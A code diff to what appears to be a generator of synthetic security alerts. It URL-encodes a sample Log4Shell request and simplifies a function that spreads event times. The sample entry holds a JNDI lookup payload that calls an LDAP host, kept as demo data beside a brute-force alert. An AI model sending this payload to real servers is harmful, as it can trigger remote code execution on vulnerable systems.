@@ -44,7 +44,7 @@ const ATTACKS = [
     12,
     'Log4Shell: a lookup in a request.',
     'GET',
-    '/?x=${jndi:ldap://203.0.113.99/a}',
+    '/?x=$%7Bjndi:ldap://203.0.113.99/a}',
     'curl/8.5.0',
   ],
   ['5712', 10, 'sshd: brute force trying to get access to the system.', '', '', ''],
@@ -118,12 +118,11 @@ export function documented(source: number): string {
   return `${network}.${1 + ((source * 37) % 253)}`;
 }
 
-/** The time at which a share of the events has come: more in the evenings, and one burst. */
+/** The time at which a share of the events has come: each day more at one hour. */
 function timeOf(from: number, to: number, share: number): number {
   const days = (to - from) / (24 * HOUR);
-  const wave = (Math.sin(share * days * 2 * Math.PI) * 0.8) / (days * 2 * Math.PI);
-  const burst = share > 0.55 && share < 0.68 ? (0.615 - share) * 0.8 : 0;
-  return Math.round(from + (share + wave + burst) * (to - from));
+  const wave = (Math.sin(share * days * 2 * Math.PI) * 0.75) / (days * 2 * Math.PI);
+  return Math.round(from + (share + wave) * (to - from));
 }
 
 /** Numbers from 0 to 1 that look random and are the same each time (mulberry32). */
